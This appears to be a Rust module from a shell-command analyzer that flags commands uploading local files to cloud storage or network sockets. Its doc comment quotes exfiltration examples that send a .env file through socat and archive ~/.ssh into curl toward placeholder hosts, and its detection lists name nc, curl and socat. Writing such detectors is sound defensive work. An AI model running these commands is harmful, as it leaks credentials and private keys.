//! Local files sent elsewhere by tools whose arguments name both ends of a copy: object
//! storage clients (`aws s3 cp F s3://…`, `gsutil cp F gs://…`, `gcloud storage cp`,
//! `az storage blob upload --file F`, `rclone copy F remote:`) and `socat`'s address pairs
//! (`socat -u FILE:.env TCP:host:port`). The local side becomes an upload effect. A network
//! client sending its piped standard input (`tar cz ~/.ssh | curl -T - URL`, `… | nc host
//! port`) sets the behavior `upload_stdin`.

use crate::analyzer::{Analyzer, Stdin};
use crate::effects::Access;
use crate::model::push_unique;
use crate::word::Word;

/// Schemes of remote object stores.
const REMOTE_SCHEMES: &[&str] = &["s3://", "gs://", "az://", "r2://", "oss://", "cos://"];

/// socat address types that reach the network.
const SOCAT_NETWORK: &[&str] = &[
    "tcp:", "tcp4:", "tcp6:", "udp:", "udp4:", "udp6:", "openssl:", "ssl:", "sctp:", "socks4:",
    "socks4a:", "socks5:", "proxy:", "dccp:",
];

/// socat address types naming a local file.
const SOCAT_FILE: &[&str] = &["file:", "open:", "gopen:", "create:", "readline:"];

impl Analyzer<'_> {
    /// Records the local files `name args` sends to a remote store or socket.
    pub(crate) fn transfers(&mut self, name: &str, args: &[Word]) {
        // Only these programs are read (a wrapper's arguments hold the rest of the command:
        // scanning them for every wrapper of a chain would grow with its square).
        if !matches!(
            name,
            "aws" | "gsutil" | "gcloud" | "rclone" | "az" | "socat"
        ) {
            return;
        }
        let operands: Vec<(usize, &Word)> = args
            .iter()
            .enumerate()
            .filter(|(_, w)| !w.text.starts_with('-'))
            .collect();
        let text = |k: usize| operands.get(k).map(|(_, w)| w.text.as_str());
        match name {
            "aws" if text(0) == Some("s3") && matches!(text(1), Some("cp" | "mv" | "sync")) => {
                self.copy_to_remote(&operands[2..]);
            }
            "gsutil" if matches!(text(0), Some("cp" | "mv" | "rsync")) => {
                self.copy_to_remote(&operands[1..]);
            }
            "gcloud"
                if text(0) == Some("storage") && matches!(text(1), Some("cp" | "mv" | "rsync")) =>
            {
                self.copy_to_remote(&operands[2..]);
            }
            "rclone"
                if matches!(
                    text(0),
                    Some("copy" | "copyto" | "sync" | "move" | "moveto")
                ) =>
            {
                let rest = &operands[1..];
                let remote = |w: &Word| {
                    w.text
                        .split_once(':')
                        .is_some_and(|(r, _)| !r.is_empty() && !r.contains('/'))
                };
                if rest.len() >= 2 && remote(rest[rest.len() - 1].1) && !remote(rest[0].1) {
                    for (_, w) in &rest[..rest.len() - 1] {
                        self.effect(Access::Upload, &w.text, Some(w), None);
                    }
                }
            }
            "az" => {
                let upload = args
                    .iter()
                    .any(|w| w.text == "upload" || w.text == "upload-batch");
                if upload {
                    let values = args.windows(2).filter(|p| {
                        matches!(p[0].text.as_str(), "--file" | "-f" | "--source" | "-s")
                    });
                    for pair in values {
                        self.effect(Access::Upload, &pair[1].text, Some(&pair[1]), None);
                    }
                }
            }
            "socat" => self.socat(args),
            _ => {}
        }
    }

    /// Records `upload_stdin` when `name args` sends piped input over the network.
    pub(crate) fn stdin_upload(&mut self, name: &str, args: &[Word], stdin: &Stdin) {
        let sender = matches!(name, "curl" | "wget" | "nc" | "ncat" | "netcat" | "telnet");
        if !sender || !matches!(stdin, Stdin::Pipe | Stdin::Fed(_) | Stdin::Command) {
            return;
        }
        let texts: Vec<&str> = args.iter().map(|w| w.text.as_str()).collect();
        let value_is_stdin = |options: &[&str]| {
            texts
                .windows(2)
                .any(|p| options.contains(&p[0]) && matches!(p[1], "-" | "@-" | "."))
                || texts
                    .iter()
                    .any(|t| t.ends_with("=@-") || t.ends_with("@-") && t.starts_with("-d"))
        };
        let sends = match name {
            "curl" => value_is_stdin(&[
                "-T",
                "--upload-file",
                "-d",
                "--data",
                "--data-binary",
                "--data-raw",
                "--data-urlencode",
                "-F",
                "--form",
            ]),
            "wget" => texts.iter().any(|t| t.ends_with("=/dev/stdin")),
            "nc" | "ncat" | "netcat" | "telnet" => {
                !texts
                    .iter()
                    .any(|t| t.starts_with("-l") || *t == "--listen")
                    && texts.iter().any(|t| !t.starts_with('-'))
            }
            _ => false,
        };
        if sends {
            push_unique(&mut self.out.behaviors, "upload_stdin");
        }
    }

    /// `SRC... DST` where `DST` is a remote store: every local source is uploaded.
    fn copy_to_remote(&mut self, operands: &[(usize, &Word)]) {
        let remote = |w: &Word| {
            let lower = w.text.to_ascii_lowercase();
            REMOTE_SCHEMES.iter().any(|s| lower.starts_with(s))
        };
        let Some(((_, last), sources)) = operands.split_last() else {
            return;
        };
        if !remote(last) {
            return;
        }
        for (_, w) in sources.iter().filter(|(_, w)| !remote(w)) {
            self.effect(Access::Upload, &w.text, Some(w), None);
        }
    }

    /// `socat [opts] ADDR1 ADDR2`: a file address paired with a network address is sent.
    fn socat(&mut self, args: &[Word]) {
        let addresses: Vec<&Word> = args.iter().filter(|w| !w.text.starts_with('-')).collect();
        let lower: Vec<String> = addresses
            .iter()
            .map(|w| w.text.to_ascii_lowercase())
            .collect();
        let network = lower
            .iter()
            .any(|a| SOCAT_NETWORK.iter().any(|p| a.starts_with(p)));
        if !network {
            return;
        }
        for (w, a) in addresses.iter().zip(&lower) {
            let file = SOCAT_FILE
                .iter()
                .find_map(|p| a.starts_with(p).then(|| &w.text[p.len()..]))
                .or_else(|| {
                    (!a.contains(':') && a != "-" && a.contains(['/', '.']))
                        .then_some(w.text.as_str())
                });
            if let Some(file) = file {
                // Address options follow a comma (`FILE:x,rdonly`).
                let path = file.split(',').next().unwrap_or(file).to_owned();
                if !path.is_empty() {
                    self.effect(Access::Upload, &path, None, None);
                    self.effect(Access::Read, &path, None, None);
                }
            }
        }
    }
}
